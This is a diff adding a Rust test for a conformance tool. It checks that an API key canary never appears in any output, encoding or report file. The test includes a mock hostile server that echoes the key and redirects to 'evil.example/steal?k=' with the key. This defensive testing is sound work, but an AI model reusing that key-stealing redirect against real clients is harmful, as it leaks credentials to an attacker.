@@ -1,0 +1,264 @@
+//! The key never appears in any output, in any of the forms a server can echo it in: every
+//! command that prints (`run`, `certify`, `doctor`), against a correct server and against one
+//! that echoes the key back in every encoding real servers produce.
+
+use axum::Router;
+use axum::http::HeaderMap;
+use share_conformance_reference::ServerOptions;
+
+use crate::support::*;
+
+/// Percent-encoding of every byte that is not unreserved, in lower-case hex.
+fn percent_encoded_lower(text: &str) -> String {
+    text.bytes()
+        .map(|b| match b {
+            b'A'..=b'Z' | b'a'..=b'z' | b'0'..=b'9' | b'-' | b'.' | b'_' | b'~' => {
+                (b as char).to_string()
+            }
+            other => format!("%{other:02x}"),
+        })
+        .collect()
+}
+
+/// Percent-encoding in upper-case hex.
+fn percent_encoded_upper(text: &str) -> String {
+    percent_encoded_lower(text)
+        .split('%')
+        .enumerate()
+        .map(|(i, part)| {
+            if i == 0 {
+                part.to_owned()
+            } else {
+                format!("%{}{}", part[..2].to_uppercase(), &part[2..])
+            }
+        })
+        .collect()
+}
+
+fn base64_with(bytes: &[u8], alphabet: &[u8; 64], pad: bool) -> String {
+    let mut out = String::new();
+    for chunk in bytes.chunks(3) {
+        let n = chunk
+            .iter()
+            .enumerate()
+            .fold(0u32, |n, (i, b)| n | (u32::from(*b) << (16 - 8 * i)));
+        for i in 0..4 {
+            if i <= chunk.len() {
+                out.push(alphabet[(n >> (18 - 6 * i)) as usize & 63] as char);
+            } else if pad {
+                out.push('=');
+            }
+        }
+    }
+    out
+}
+
+const STANDARD: &[u8; 64] = b"ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/";
+const URL_SAFE: &[u8; 64] = b"ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789-_";
+
+/// Every form of `key` a server can echo: as it is, percent-encoded in either case, escaped
+/// in JSON (`\/`, `\u002B`, `\u002b`), with `+` read as a space, in base64 and base64url.
+fn forms(key: &str) -> Vec<(&'static str, String)> {
+    vec![
+        ("plain", key.to_owned()),
+        ("percent-encoded", percent_encoded_upper(key)),
+        ("lower-case percent-encoding", percent_encoded_lower(key)),
+        ("JSON \\/", key.replace('/', "\\/")),
+        (
+            "JSON \\u002B",
+            key.replace('+', "\\u002B").replace('/', "\\/"),
+        ),
+        ("JSON \\u002b", key.replace('+', "\\u002b")),
+        ("+ read as a space", key.replace('+', " ")),
+        ("base64", base64_with(key.as_bytes(), STANDARD, true)),
+        ("base64url", base64_with(key.as_bytes(), URL_SAFE, false)),
+    ]
+}
+
+/// A body that echoes `key` in every form, written by hand so the escapes stay as servers
+/// write them.
+fn echo_body(key: &str) -> String {
+    let fields: Vec<String> = forms(key)
+        .iter()
+        .map(|(name, form)| {
+            // The form goes in as JSON text: a backslash already in it is an escape.
+            let text = if form.contains('\\') {
+                form.clone()
+            } else {
+                form.replace('"', "\\\"")
+            };
+            format!("\"{name}\":\"{text}\"")
+        })
+        .collect();
+    format!("{{{}}}", fields.join(","))
+}
+
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn the_api_key_never_appears_in_any_output_in_any_form() {
+    // `+` and `/` make the forms differ; the random part keeps it unique to this run.
+    let suffix: String = format!("{:x}", std::process::id() as u64 * 0x9e37_79b9 + 0x5bd1);
+    let canary = format!("ak_Canary+{suffix}/Key+{suffix}");
+    let all_forms = forms(&canary);
+    // A correct server that knows the canary key.
+    let server = reference(ServerOptions {
+        recipient_key: Some(share_conformance_reference::store::Key::new(canary.clone())),
+        ..Default::default()
+    })
+    .await;
+    let mut fixtures = fixtures_of(&server);
+    fixtures.api_key = None;
+    let dir = ScratchDir::new("canary");
+    let fixtures_path = dir.fixtures(&fixtures);
+    // A hostile server that echoes the key it receives in every form: in its body, in
+    // headers, and in a redirect's Location.
+    let echo = spawn(Router::new().fallback(|headers: HeaderMap| async move {
+        let key = headers
+            .get("x-api-key")
+            .and_then(|v| v.to_str().ok())
+            .unwrap_or("none")
+            .to_owned();
+        let forms = forms(&key);
+        let mut response = axum::http::Response::builder()
+            .status(axum::http::StatusCode::TEMPORARY_REDIRECT)
+            .header("content-type", "application/json")
+            .header(
+                "location",
+                format!(
+                    "https://evil.example/steal?k={}",
+                    percent_encoded_lower(&key)
+                ),
+            );
+        for (i, (_, form)) in forms.iter().enumerate() {
+            if let Ok(value) = axum::http::HeaderValue::from_str(form) {
+                response = response.header(format!("x-echo-{i}"), value);
+            }
+        }
+        response
+            .body(axum::body::Body::from(echo_body(&key)))
+            .unwrap()
+    }))
+    .await;
+
+    let mut cases = Vec::new();
+    for (name, url, expected_code) in [
+        ("correct", server.base_url(), 0),
+        ("echoing", echo.clone(), 1),
+    ] {
+        let files = ["junit.xml", "cucumber.json", "report.md", "report.md.json"]
+            .map(|f| dir.arg(&format!("{name}-run-{f}")));
+        let run = vec![
+            "run",
+            "--base-url",
+            &url,
+            "--fixtures",
+            &fixtures_path,
+            "--api-key",
+            &canary,
+            "-vv",
+            "--junit",
+            &files[0],
+            "--cucumber-json",
+            &files[1],
+            "--report",
+            &files[2],
+        ];
+        let certificate = dir.arg(&format!("{name}-certificate.md"));
+        let certify = [
+            "certify",
+            "--base-url",
+            &url,
+            "--fixtures",
+            &fixtures_path,
+            "--report",
+            &certificate,
+        ];
+        let doctor = ["doctor", "--base-url", &url, "--fixtures", &fixtures_path];
+        let certificate_json = format!("{certificate}.json");
+        let run_files: Vec<String> = files.to_vec();
+        cases.push((
+            format!("{name} run"),
+            run.iter().map(|s| s.to_string()).collect::<Vec<_>>(),
+            vec![],
+            Some(expected_code),
+            run_files,
+        ));
+        cases.push((
+            format!("{name} certify (key from the environment)"),
+            certify.iter().map(|s| s.to_string()).collect(),
+            vec![("FREDDY_API_KEY", canary.clone())],
+            Some(expected_code),
+            vec![certificate, certificate_json],
+        ));
+        cases.push((
+            format!("{name} doctor"),
+            doctor.iter().map(|s| s.to_string()).collect(),
+            vec![("FREDDY_API_KEY", canary.clone())],
+            if expected_code == 0 { Some(0) } else { None },
+            Vec::new(),
+        ));
+    }
+    for (case, args, env, expected_code, files) in cases {
+        let output = tokio::task::spawn_blocking(move || {
+            let args: Vec<&str> = args.iter().map(String::as_str).collect();
+            let env: Vec<(&str, &str)> = env.iter().map(|(k, v)| (*k, v.as_str())).collect();
+            harness_env(&args, &env)
+        })
+        .await
+        .unwrap();
+        let (stdout, stderr) = text(&output);
+        if let Some(code) = expected_code {
+            assert_eq!(
+                output.status.code(),
+                Some(code),
+                "{case}:\n{stdout}\n{stderr}"
+            );
+        } else {
+            assert!(
+                matches!(output.status.code(), Some(0..=3)),
+                "{case}:\n{stdout}\n{stderr}"
+            );
+        }
+        assert!(!stderr.contains("panicked"), "{case}: {stderr}");
+        let mut outputs = vec![
+            ("stdout".to_owned(), stdout.clone()),
+            ("stderr".to_owned(), stderr),
+        ];
+        for file in &files {
+            let content = std::fs::read_to_string(file).unwrap_or_else(|_| {
+                panic!("{case}: {file} is missing: the leak scan removes a file it finds a key in\n{stdout}")
+            });
+            outputs.push((file.clone(), content));
+        }
+        for (place, content) in &outputs {
+            for (form_name, form) in &all_forms {
+                assert!(
+                    !content.contains(form.as_str()),
+                    "{case}: the key ({form_name}: {form}) is in {place}:\n{content}"
+                );
+            }
+            assert!(
+                !content.contains(&suffix),
+                "{case}: part of the key is in {place}:\n{content}"
+            );
+        }
+        assert!(
+            !stdout.contains("LEAK"),
+            "{case}: the leak scan found a key:\n{stdout}"
+        );
+        if case == "echoing run" {
+            assert!(
+                stdout.contains("redirect to https://evil.example/steal?k=***"),
+                "{stdout}"
+            );
+            assert!(
+                stdout.contains("state at the failure:"),
+                "-vv shows the World: {stdout}"
+            );
+            assert!(stdout.contains("the target echoed a key back"), "{stdout}");
+            assert!(
+                stdout.contains("\"plain\":\"***\""),
+                "the echo is masked whole:\n{stdout}"
+            );
+        }
+    }
+}
